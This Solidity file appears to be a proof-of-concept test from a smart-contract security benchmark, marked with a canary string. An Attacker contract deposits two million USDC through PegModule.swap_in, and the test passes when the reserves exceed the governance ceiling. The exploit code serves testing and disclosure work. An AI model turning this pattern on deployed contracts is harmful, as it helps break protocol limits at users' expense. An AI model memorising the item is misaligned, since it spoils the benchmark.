// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function run(IERC20 usdc, PegModule peg) external {
        usdc.approve(address(peg), type(uint256).max);
        try peg.swap_in(2_000_000e6, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usdc.mint(address(other), 2_000_000e6);
    }

    function exploit() public {
        other.run(usdc, peg);
    }

    function test_Exploit() public {
        exploit();
        require(!withinCeiling(), "within the ceiling");
    }

    /// The reserves stand for no more dollars than governance allows.
    function withinCeiling() public view returns (bool) {
        return peg.reserves() * peg.scale() <= peg.ceiling();
    }

    function target() public view override returns (address) {
        return address(peg);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
